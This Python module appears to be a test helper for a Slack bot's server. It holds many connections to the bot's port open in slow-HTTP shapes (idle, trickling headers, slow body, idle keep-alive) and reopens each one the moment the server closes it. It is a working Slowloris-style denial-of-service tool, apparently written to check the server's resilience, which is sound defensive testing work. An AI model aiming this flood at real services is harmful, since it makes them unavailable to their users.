"""An attacker holding connections to the bot's public port, reopening each as soon as it is
closed, in one of the shapes that once kept Slack out: idle, trickling headers, a slow body,
an idle keep-alive connection after one request."""

from __future__ import annotations

import contextlib
import selectors
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Literal

Shape = Literal["idle", "trickle", "slow_body", "keepalive"]
SHAPES: tuple[Shape, ...] = ("idle", "trickle", "slow_body", "keepalive")
DRIP_SECONDS = 0.3
_OPENING: dict[Shape, bytes] = {
    "idle": b"",
    "trickle": b"POST /slack/events HTTP/1.1\r\nHost: bot\r\n",
    "slow_body": (b"POST /slack/events HTTP/1.1\r\nHost: bot\r\nContent-Type: application/json"
                  b"\r\nContent-Length: 100000\r\n\r\n{"),
    "keepalive": b"GET /healthz HTTP/1.1\r\nHost: bot\r\nConnection: keep-alive\r\n\r\n",
}
_DRIP: dict[Shape, bytes] = {"idle": b"", "trickle": b"X", "slow_body": b" ", "keepalive": b""}


@dataclass
class Flood:
    host: str
    port: int
    shape: Shape
    count: int
    opened: int = 0
    closed_by_server: int = 0
    _stop: threading.Event = field(default_factory=threading.Event)

    def run(self) -> None:
        selector = selectors.DefaultSelector()
        open_socks: set[socket.socket] = set()
        last_drip = time.monotonic()
        try:
            while not self._stop.is_set():
                while len(open_socks) < self.count and not self._stop.is_set():
                    try:
                        sock = socket.create_connection((self.host, self.port), timeout=1)
                        if _OPENING[self.shape]:
                            sock.sendall(_OPENING[self.shape])
                        sock.setblocking(False)
                    except OSError:
                        time.sleep(0.01)
                        break
                    selector.register(sock, selectors.EVENT_READ)
                    open_socks.add(sock)
                    self.opened += 1
                for key, _ in selector.select(timeout=0.05):
                    sock = key.fileobj  # type: ignore[assignment]
                    try:
                        data = sock.recv(65536)
                    except OSError:
                        data = b""
                    if not data:  # the server closed it: open another at once
                        self.closed_by_server += 1
                        selector.unregister(sock)
                        open_socks.discard(sock)
                        sock.close()
                if _DRIP[self.shape] and time.monotonic() - last_drip > DRIP_SECONDS:
                    last_drip = time.monotonic()
                    for sock in list(open_socks):
                        with contextlib.suppress(OSError):
                            sock.send(_DRIP[self.shape])
        finally:
            for sock in open_socks:
                sock.close()
            selector.close()

    def stop(self) -> None:
        self._stop.set()


@contextlib.contextmanager
def flooding(host: str, port: int, shapes: tuple[Shape, ...], count: int) -> Iterator[list[Flood]]:
    floods = [Flood(host, port, shape, count) for shape in shapes]
    threads = [threading.Thread(target=f.run, daemon=True) for f in floods]
    for thread in threads:
        thread.start()
    try:
        yield floods
    finally:
        for flood in floods:
            flood.stop()
        for thread in threads:
            thread.join(timeout=10)
